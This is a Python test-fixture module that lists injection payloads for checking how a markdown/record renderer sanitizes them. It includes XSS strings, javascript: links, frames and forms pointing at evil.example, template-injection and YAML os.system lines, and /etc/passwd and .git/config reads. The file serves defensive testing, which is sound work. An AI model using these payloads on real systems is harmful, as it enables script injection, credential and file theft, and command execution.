"""Texts that somebody would write into a record to have them do something. Each is one line of a field.

The dialog that a payload opens and the host that it asks for are what the tests look for. A new one is a new line;
two of them may not differ in capitals or width alone, because a record's name must be its own.
"""

SCRIPTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<ScRiPt src=https://evil.example/3.js></sCrIpT>",
    "<script\n>alert(4)</script\n>",
    "</title><script>alert(5)</script>",
    "&lt;/title&gt;&lt;script&gt;alert(6)&lt;/script&gt;",
    "&#60;/title&#62;&#60;script&#62;alert(7)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(8)&amp;lt;/script&amp;gt;",
    "`</title><script>alert(9)</script>`",
    "--></style></textarea></noscript><script>alert(10)</script><!--",
    "<svg><script>alert(11)</script></svg>",
    "]]><script>alert(12)</script><![CDATA[",
    "<noscript><p title='</noscript><img src=x onerror=alert(13)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(14)&gt;'>",
)
HANDLERS = (
    "<img src=x onerror=alert(20)>",
    "<svg onload=alert(21)>",
    "<svg/onload=alert(22)//",
    "<details open ontoggle=alert(23)>",
    "<input autofocus onfocus=alert(24)>",
    '" onmouseover="alert(25)" x="',
    "' autofocus onfocus='alert(26)' x='",
    "x onfocus=alert(27) tabindex=1 autofocus x=",
    "<body onload=alert(28)>",
    "<marquee onstart=alert(29)>",
    "<video src=x onerror=alert(30)></video>",
    "<x style=animation-name:md-x onanimationstart=alert(31)>",
    '"><img src=x onerror=alert(32)>',
)
FRAMES = (
    "<iframe src=https://evil.example/40></iframe>",
    "<iframe srcdoc='<script>alert(41)</script>'></iframe>",
    "<object data=https://evil.example/42></object>",
    "<embed src=https://evil.example/43>",
    "<form action=https://evil.example/44><button>Go</button></form>",
    "<base href=https://evil.example/45/>",
    "<link rel=stylesheet href=https://evil.example/46.css>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/47>",
    "<style>@import 'https://evil.example/48.css'</style>",
    "<img src=https://evil.example/49.png>",
    "<p style='background:url(https://evil.example/50.png)'>",
)
LINKS = (
    "<a href=javascript:alert(60)>x</a>",
    "[x](javascript:alert(61))",
    "[x](JaVaScRiPt:alert(62))",
    "[x](java\tscript:alert(63))",
    "[x](&#106;avascript:alert(64))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCg2NSk8L3NjcmlwdD4=)",
    "[x](vbscript:msgbox(66))",
    "<javascript:alert(67)>",
    "<https://evil.example/68>",
    "[x]: javascript:alert(69) 'title'",
    "[x][y] and [y]: https://evil.example/70",
    '[x](https://evil.example/71 "title")',
    "![beacon](https://evil.example/72.png)",
    "![x](https://evil.example/73.png){ onload=alert(73) }",
    "https://evil.example/74 and www.evil.example and javascript:alert(74)",
    "[x](<javascript:alert(75)>)",
    "javascript:alert(76)//",
    "[[place-000|<img src=x onerror=alert(77)>]]",
)
ATTRIBUTES = (
    "{: onclick=alert(80) }",
    "words { onmouseover=alert(81) #top .md-search }",
    "words {: #__config onclick=alert(82) }",
    "# words { #search onclick=alert(83) }",
    "**bold**{ onclick=alert(84) }",
)
MARKDOWN = (
    "```mermaid graph TD; A-->B ```",
    "~~~ html",
    "--8<-- 'mkdocs.yml'",
    '--8<-- ".git/config"',
    "*[HTML]: <script>alert(92)</script>",
    "[^1]: <script>alert(93)</script> and a footnote[^1]",
    "!!! danger 'title'",
    "??? note",
    '=== "Tab"',
    "| a | b | <b>c</b> |",
    "- [ ] task and 1. list",
    "> quote <b>and</b> # heading",
    "Setext ===",
    "---",
    "    indented code <b>x</b>",
    ":smile: :fontawesome-brands-github: ++ctrl++ ~~gone~~ ==marked== H~2~O x^2^ (c)",
    "\\<script\\>alert(106)\\</script\\> \\[x\\]\\(y\\)",
    "term : definition",
    "[TOC] <!-- md:option -->",
    "``````` ticks",
    "<div markdown='1'> **bold** </div>",
    "wzxhzdk:0 klzzwxh:0000",
)
TEMPLATES = (
    "{{ 7*7 }} {{ config.site_name }}",
    "{% include '/etc/passwd' %}{% raw %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{# comment #} {{'{{'}}",
    "${alert(114)} ${{ secrets.TOKEN }}",
    "`${alert(115)}`",
    "</script><!--<script>`${alert(116)}`//-->",
    "%(name)s {0} {name!r} $name",
)
FRONT_MATTER = (
    "x\ntemplate: redirect.html\nlocation: https://evil.example/120",
    "x\n---\n\n<script>alert(121)</script>",
    '"\ntemplate: 404.html\nhide: ["navigation"]',
    "x: y # comment",
    "&anchor *alias !!python/object/apply:os.system ['id']",
    "\\u003cscript\\u003ealert(125)\\u003c/script\\u003e",
)
PARSERS = (
    "<![x",
    "<![CDATA[ x",
    "<!DOCTYPE html>",
    "<?php echo 1 ?>",
    "<!-- not closed",
    "</article></main></body></html>",
    "</li></ul></td></tr></table></figure></div></a>",
    "<plaintext>",
    "<textarea><xmp>",
    "[" * 150,
    "&notanentity; &lt; &#x3C; &",
    "＜script＞alert(139)＜/script＞",
    "中文<script>alert(140)</script>智能[链接](javascript:alert(141))",
)
PAYLOADS = tuple(
    " ".join(payload.split())
    for payload in (
        *SCRIPTS,
        *HANDLERS,
        *FRAMES,
        *LINKS,
        *ATTRIBUTES,
        *MARKDOWN,
        *TEMPLATES,
        *FRONT_MATTER,
        *PARSERS,
    )
)
"""Every payload as a record holds it."""
